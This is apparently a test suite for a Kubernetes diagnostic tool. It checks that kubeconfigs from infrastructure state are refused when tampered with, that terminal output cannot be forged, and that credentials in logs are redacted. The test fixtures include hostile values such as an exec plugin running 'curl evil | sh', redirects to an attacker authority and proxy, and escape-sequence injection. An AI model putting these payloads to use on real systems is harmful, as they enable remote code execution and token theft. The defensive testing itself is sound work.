/**
 * The doctor against a hostile state: the stack's `kubeconfig` output, pod annotations and agent
 * log lines are written by whoever can write the state or the cluster. Each attack from issue 10
 * (item 8) is tried here: a foreign exec plugin or auth provider, local files read through the
 * kubeconfig, skipped TLS verification, a forged `PASS` line, credentials in log lines, and a
 * malformed kubeconfig that would echo its token.
 */
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import { parse, stringify } from "yaml";
import { toKubeloginKubeconfig } from "../../components/kubelogin";
import { diagnose } from "../../src/doctor/diagnose";
import { doctor } from "../../src/doctor/index";
import { kubernetesReader } from "../../src/doctor/gather";
import { KubeconfigRefusedError, vetKubeconfig } from "../../src/doctor/kubeconfig";
import { redact, sanitize } from "../../src/doctor/redact";
import { renderJson, renderText } from "../../src/doctor/render";
import { clusterFacts, entraUserKubeconfig } from "../support/cloud";
import { deployments, labExpectations, labOutputs, pod, webhooks } from "../support/doctorFixtures";

const STACK = { kind: "stack", label: "stack output `kubeconfig`" } as const;
const FILE = { kind: "file", label: "--kubeconfig ./kc" } as const;
const SPN_ID = "0b0e5a6e-1c1d-4f5e-9a8b-7c6d5e4f3a2b";
const SPN_SECRET = "Abc8Q~Zx0yWv9uT.s7rQ_p6oN-m5lK4jI3hG2fE1";
const facts = clusterFacts("aks-vault-dev", "rg-aks-vault-dev", "francecentral");

type Doc = { clusters: Array<{ cluster: Record<string, unknown> }>; users: Array<{ name: string; user: Record<string, unknown> }> };
/** The program's kubelogin kubeconfig for `login`, edited by `edit` (the attacker's change to the state). */
function programKubeconfig(login: "spn" | "msi" | "azurecli", edit: (d: Doc) => void = () => undefined): string {
    const text = toKubeloginKubeconfig(entraUserKubeconfig(facts), login === "spn"
        ? { login, clientId: SPN_ID, clientSecret: SPN_SECRET }
        : login === "msi" ? { login, clientId: SPN_ID } : { login });
    const doc = parse(text) as Doc;
    edit(doc);
    return stringify(doc);
}
const exec = (d: Doc) => d.users[0].user.exec as { command: string; args: string[]; env: Array<{ name: string; value: string }> | null };

function refused(text: string, pattern: RegExp, source: typeof STACK | typeof FILE = STACK) {
    assert.throws(() => vetKubeconfig(text, source), (e: unknown) => {
        assert.ok(e instanceof KubeconfigRefusedError, String(e));
        assert.match(e.message, pattern);
        assert.ok(!e.message.includes(SPN_SECRET) && !e.message.includes("\n"), e.message);
        return true;
    });
}

describe("doctor: the kubeconfig from the state is checked before anything runs", () => {
    it("accepts the kubelogin exec the program writes (spn, msi, azurecli) and the admin kubeconfig", () => {
        for (const login of ["spn", "msi", "azurecli"] as const) {
            const v = vetKubeconfig(programKubeconfig(login), STACK);
            assert.equal(v.auth, `kubelogin --login ${login}`);
            assert.equal(v.server, `https://${facts.fqdn}`);
        }
        assert.equal(vetKubeconfig(facts.kubeconfig, STACK).auth, "token");
    });

    it("refuses any other exec plugin unless --allow-exec", () => {
        const shell = programKubeconfig("azurecli", (d) => { exec(d).command = "/bin/sh"; exec(d).args = ["-c", "curl evil | sh"]; });
        refused(
            shell,
            /^stack output `kubeconfig`: user .* runs an exec plugin that is not the kubelogin the program writes: its command is not `kubelogin`.*--allow-exec/,
        );
        assert.equal(vetKubeconfig(shell, STACK, { allowExec: true }).auth, "exec /bin/sh (--allow-exec)");
        // The kubeconfig Azure itself hands out logs in with devicecode: interactive, not the program's.
        refused(entraUserKubeconfig(facts), /`--login` has a value the program does not write/);
        refused(programKubeconfig("azurecli", (d) => { exec(d).command = "./kubelogin"; }), /command is not `kubelogin`/);
    });

    it("refuses the program's kubelogin bent to leak a token or secret: another audience, authority, file or server", () => {
        // An ARM audience: kubelogin would fetch a token for Azure Resource Manager and send it to `server`.
        refused(programKubeconfig("azurecli", (d) => {
            const a = exec(d).args;
            a[a.indexOf("--server-id") + 1] = "https://management.azure.com/";
        }), /`--server-id` has a value/);
        refused(programKubeconfig("spn", (d) => {
            exec(d).args.push("--authority-host", "https://login.evil.example/");
        }), /flag `--authority-host` is not one the program writes/);
        refused(programKubeconfig("spn", (d) => {
            exec(d).args.push("--client-certificate=/home/op/.azure/cert.pfx");
        }), /flag `--client-certificate`/);
        refused(programKubeconfig("spn", (d) => {
            exec(d).env?.push({ name: "AZURE_AUTHORITY_HOST", value: "https://login.evil.example/" });
        }), /exec env `AZURE_AUTHORITY_HOST` is not a variable/);
        // The program only ever empties the certificate path (kubeloginEnv); a path would turn spn into a certificate login.
        refused(programKubeconfig("spn", (d) => {
            const e = exec(d).env?.find((x) => x.name === "AZURE_CLIENT_CERTIFICATE_PATH");
            if (e) e.value = "/home/op/.azure/cert.pem";
        }), /exec env `AZURE_CLIENT_CERTIFICATE_PATH` has a value the program does not write/);
        refused(programKubeconfig("spn", (d) => {
            d.clusters[0].cluster.server = "https://api.evil.example:443";
        }), /the server api\.evil\.example is not an AKS API server/);
    });

    it("refuses insecure-skip-tls-verify and plain http, whatever the source", () => {
        for (const source of [STACK, FILE]) {
            refused(programKubeconfig("azurecli", (d) => {
                d.clusters[0].cluster["insecure-skip-tls-verify"] = true;
            }), /insecure-skip-tls-verify; the doctor never talks to an API server it cannot verify/, source);
            refused(programKubeconfig("azurecli", (d) => {
                d.clusters[0].cluster.server = `http://${facts.fqdn}:80`;
            }), /server is not https:\/\//, source);
        }
    });

    it("refuses auth providers (azure and gcp run cmd-path) unless --allow-exec", () => {
        const gcp = programKubeconfig("azurecli", (d) => {
            d.users[0].user = { "auth-provider": { name: "gcp", config: { "cmd-path": "/bin/sh", "cmd-args": "-c id" } } };
        });
        refused(gcp, /auth provider gcp, which can run a command or read files/);
        assert.equal(vetKubeconfig(gcp, STACK, { allowExec: true }).auth, "auth provider gcp");
    });

    it("a kubeconfig from the stack may not read local files (token-file is read by client-node's loadFromString itself)", async () => {
        const dir = mkdtempSync(path.join(tmpdir(), "doctor-sec-"));
        try {
            const stolen = path.join(dir, "azure-profile.json");
            writeFileSync(stolen, "secret file content");
            const text = programKubeconfig("azurecli", (d) => { d.users[0].user = { "token-file": stolen }; });
            refused(text, /user .* token-file would make the doctor read a local file/);
            await assert.rejects(kubernetesReader(text), KubeconfigRefusedError);
            refused(programKubeconfig("azurecli", (d) => {
                d.clusters[0].cluster["proxy-url"] = "http://proxy.evil.example:3128";
            }), /proxy-url/);
            // The user's own file may (kubectl semantics): it is theirs.
            assert.equal(vetKubeconfig(text, FILE).server, `https://${facts.fqdn}`);
        } finally {
            rmSync(dir, { recursive: true, force: true });
        }
    });

    it("only the checked context reaches client-node", () => {
        const doc = parse(facts.kubeconfig) as Doc & { contexts: unknown[] };
        doc.users.push({ name: "other", user: { exec: { command: "/bin/sh", args: ["-c", "id"] } } });
        const v = vetKubeconfig(stringify(doc), STACK);
        const out = parse(v.text) as Doc;
        assert.deepEqual(out.users.map((u) => u.name), ["clusterAdmin_rg-aks-vault-dev_aks-vault-dev"]);
        assert.ok(!v.text.includes("/bin/sh"));
    });

    it("a malformed kubeconfig is named by line, never echoed", () => {
        const broken = `apiVersion: v1\nusers:\n- name: admin\n  user:\n    token: ${SPN_SECRET}\n  - : [\n`;
        refused(broken, /^stack output `kubeconfig`: is not valid YAML \(line \d+\); .*its content is not shown/);
        refused("just a string", /is not a kubeconfig/);
    });

    it("end to end: the exec command in the state does not run; with --allow-exec it does", async () => {
        const dir = mkdtempSync(path.join(tmpdir(), "doctor-exec-"));
        try {
            const marker = path.join(dir, "ran");
            const script = path.join(dir, "evil.sh");
            writeFileSync(
                script,
                `#!/bin/sh\ntouch ${marker}\n` +
                    `echo '{"apiVersion":"client.authentication.k8s.io/v1beta1","kind":"ExecCredential","status":{"token":"x"}}'\n`,
                { mode: 0o755 },
            );
            const kubeconfig = stringify({
                apiVersion: "v1", kind: "Config", "current-context": "c",
                // Port 1 on localhost: nothing listens, so the run ends after authentication.
                clusters: [{
                    name: "c",
                    cluster: {
                        server: "https://127.0.0.1:1",
                        "certificate-authority-data": Buffer.from(facts.caCertPem).toString("base64"),
                    },
                }],
                contexts: [{ name: "c", context: { cluster: "c", user: "u" } }],
                users: [{
                    name: "u",
                    user: {
                        exec: { apiVersion: "client.authentication.k8s.io/v1beta1", command: script, args: [], interactiveMode: "Never" },
                    },
                }],
            });
            const outputs = { ...labOutputs(), kubeconfig: { value: kubeconfig, secret: true } };
            await assert.rejects(doctor({ outputs }), KubeconfigRefusedError);
            assert.equal(existsSync(marker), false, "the exec plugin ran");
            const report = await doctor({ outputs, allowExec: true });
            assert.equal(existsSync(marker), true, "with --allow-exec the plugin runs (so the check above can fail)");
            assert.deepEqual(
                report.checks.map((c) => `${c.status} ${c.id}`),
                ["pass cluster.kubeconfig", "fail cluster.reachable", "skip vault"],
            );
        } finally {
            rmSync(dir, { recursive: true, force: true });
        }
    });
});

describe("doctor: nothing it prints can forge a line or move the cursor", () => {
    const forged = "busybox\n\rPASS  vault.role                   vault:auth/aks/role/busybox: all good\u001b[2K\u001b]0;title\u0007\u202e";

    it("a role annotation with a newline, escape sequences and a bidi override stays inside its check", () => {
        const p = pod("healthy");
        p.metadata = { ...p.metadata, annotations: { ...p.metadata?.annotations, "vault.hashicorp.com/role": forged } };
        const report = diagnose(labExpectations(), {
            injectorDeployments: { ok: true, value: deployments() },
            webhooks: { ok: true, value: webhooks() },
            pods: { busybox: { ok: true, value: [{ pod: p, logs: {} }] } },
        });
        const text = renderText(report);
        // Every line is a check line, an indented cause/fix/see, blank, or the summary.
        for (const line of text.split("\n")) {
            assert.match(line, /^((PASS|FAIL|WARN|SKIP) {2}\S|\s{6}(cause|fix|see):|$|\d+ passed)/, JSON.stringify(line));
        }
        assert.equal(text.split("\n").filter((l) => l.startsWith("PASS  vault.role")).length, 0, "forged PASS line");
        assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
        const annotations = report.checks.find((c) => c.id === "pod.annotations");
        assert.equal(annotations?.status, "fail");
        assert.match(annotations?.detail ?? "", /role is busybox\?\?PASS {2}vault\.role/);
        assert.doesNotMatch(renderJson(report), /\\u001b|\\r|\\n[^"]*PASS/);
    });

    it("sanitize keeps newlines only when asked", () => {
        assert.equal(sanitize("a\nb\r\nc\u001b[31m"), "a?b?c?[31m");
        assert.equal(sanitize("a\nb", true), "a\nb");
    });
});

/** xorshift32: a fixed sequence, so the sample below is the same on every run. */
function prng(seed: number): () => number {
    let x = seed >>> 0;
    return () => {
        x ^= x << 13; x >>>= 0; x ^= x >>> 17; x ^= x << 5; x >>>= 0;
        return x / 0x100000000;
    };
}

describe("doctor: redaction of credentials in log lines", () => {
    it("password=, basic-auth headers and URLs, Azure client secrets", () => {
        const cases: Array<[string, string]> = [
            ["db connect password=hunter2 user=app", "hunter2"],
            ['{"password":"p@ss w0rd"}', "p@ss w0rd"],
            ["Authorization: Basic YWRtaW46c2VjcmV0", "YWRtaW46c2VjcmV0"],
            ["proxy-authorization: basic dXNlcjpwYXNz", "dXNlcjpwYXNz"],
            ["GET https://admin:s3cr3t@vault.example.com:8200/v1/sys", "s3cr3t"],
            [`AZURE_CLIENT_SECRET=${SPN_SECRET}`, SPN_SECRET],
            [`login failed for client with ${SPN_SECRET} (AADSTS7000215)`, SPN_SECRET],
            ["client_secret: 'aB3.x'", "aB3.x"],
        ];
        for (const [line, secret] of cases) {
            const out = redact(line);
            assert.ok(!out.includes(secret), `${line} -> ${out}`);
            assert.match(out, /\[redacted/);
        }
        assert.equal(
            redact("GET https://admin:s3cr3t@vault.example.com:8200/v1/sys"),
            "GET https://[redacted]@vault.example.com:8200/v1/sys",
        );
    });

    it("32-character random values as RandomPassword generates them for seeds (default: upper, lower, digits; special optional)", () => {
        const next = prng(20261130);
        const pick = (alphabet: string) => alphabet[Math.floor(next() * alphabet.length)];
        const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        const SPECIAL = "!@#$%&*()-_=+[]{}<>:?";
        for (let i = 0; i < 500; i++) {
            const special = i % 5 === 0;
            const value = Array.from({ length: 32 }, () => pick(special ? ALNUM + SPECIAL : ALNUM)).join("");
            const out = redact(`2026-11-30T10:00:00.000Z [INFO] (runner) rendered value ${value} to file`);
            assert.ok(!out.includes(value), `not redacted: ${value}`);
        }
    });

    it("keeps names, paths, hex digests, CamelCase identifiers and URLs readable", () => {
        for (const s of [
            "ServiceAccountTokenVolumeProjection", "mutatingwebhookconfigurations.admissionregistration.k8s.io",
            "sha256:3f1c2e4d5b6a79808f1e2d3c4b5a69788f1e2d3c4b5a69788f1e2d3c4b5a6978",
            "https://aks-vault-dev-4f1c2e.hcp.francecentral.azmk8s.io:443", "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "busybox/busybox-7d9c6b5f4d-q8r7t/vault-agent-init", "no secret exists at secret/data/busybox/config",
            "run `doctor --vault-token-env VAULT_TOKEN` to check the mount", "token_reviewer_jwt is set",
        ]) assert.equal(redact(s), s);
    });
});
